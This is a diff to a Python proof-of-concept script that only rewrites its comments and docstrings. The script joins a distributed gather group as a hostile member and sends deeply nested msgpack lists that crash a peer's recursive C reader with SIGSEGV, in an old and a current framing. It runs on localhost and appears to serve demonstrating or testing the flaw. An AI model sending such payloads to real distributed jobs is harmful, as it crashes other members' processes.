@@ -1,7 +1,7 @@
-"""As a member gives the other one what nests deep, in the framing of states and in a former one; says how it ended.
+"""Joins as a member and sends deeply nested bytes to another one, in today's framing of states and in a former one.
 
-It starts a server, and the other member, in its own container. Where each level is one more call in C, the reader ends
-by SIGSEGV: in the former framing with 200 levels, 1 KB. In today's each is a list that says that it has one item.
+Server and victim run in the same container; the program prints how the victim ended. A reader that makes a call in C
+for each level ends by SIGSEGV: in the former framing at 200 levels, 1 KB. In today's, each level is a list of one item.
 """
 
 import os
@@ -20,10 +20,10 @@ ENDPOINT = "tcp://127.0.0.1:5555"
 FORMER_DEPTH = 200
 DEPTH = 100_000
 
-# The extension of a list, in both.
+# msgpack's extension type of a list, in both framings.
 LIST = 1
 
-# As an older version wrote a state: a structure, then its arrays. It dies of reading the structure.
+# An older version wrote a state as a structure and its arrays. Its reader crashes in the structure, before any array.
 NO_ARRAYS = struct.pack("<I", 1) + b"\x90"
 
 # Importing torch takes a busy machine a minute.
@@ -43,7 +43,7 @@ with client.connect(sys.argv[1], job=sys.argv[2], rank=0, world_size=2, round_ti
 
 
 def main() -> None:
-    """Attacks, and prints what became of the other member."""
+    """Attacks, and prints how the victims ended."""
     os.environ["STATSD_BN_INSECURE"] = "1"  # for the server and the victim
     with subprocess.Popen([sys.executable, "-m", "server", "--bind", ENDPOINT]) as server:
         endings = {give("former", framed(former_structure()) + NO_ARRAYS), give("digits", framed(structure()))}
@@ -52,12 +52,12 @@ def main() -> None:
 
 
 def framed(structure: bytes) -> bytes:
-    """Returns a structure behind its length."""
+    """Returns a structure with its length in front."""
     return struct.pack("<I", len(structure)) + structure
 
 
 def former_structure() -> bytes:
-    """Returns lists in lists, each of which holds the next one."""
+    """Returns nested lists, each of which contains the next one."""
     packed: bytes = msgpack.packb([])
     for _ in range(FORMER_DEPTH):
         packed = msgpack.packb([msgpack.ExtType(LIST, packed)])
@@ -65,20 +65,20 @@ def former_structure() -> bytes:
 
 
 def structure() -> bytes:
-    """Returns lists in lists, each of which says that the next one follows."""
+    """Returns nested lists, each of which announces that one item follows."""
     one: bytes = msgpack.packb(msgpack.ExtType(LIST, struct.pack("<I", 1)))
     return one * DEPTH + msgpack.packb(None)
 
 
 def give(job: str, data: bytes) -> str:
-    """Gives a victim what it reads, and returns how it ended."""
+    """Sends bytes to a victim, and returns how the victim ended."""
     command = [sys.executable, "-c", VICTIM, ENDPOINT, job]
     with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as victim:
         try:
             with Connection(ZmqChannelPool(ENDPOINT), Member(job, "world", 0, 1, 2, SECONDS, "hostile", 1)) as hostile:
                 hostile.all_gather("mp_sync()", data)
         except StatsdBNError as error:
-            # A victim that has ended takes its epoch with it.
+            # Possible if the victim ends first.
             print(f"the attacker: {error}", file=sys.stderr)
         said, _ = victim.communicate(timeout=SECONDS)
         return f"exit code {victim.returncode}: {said.strip()}"
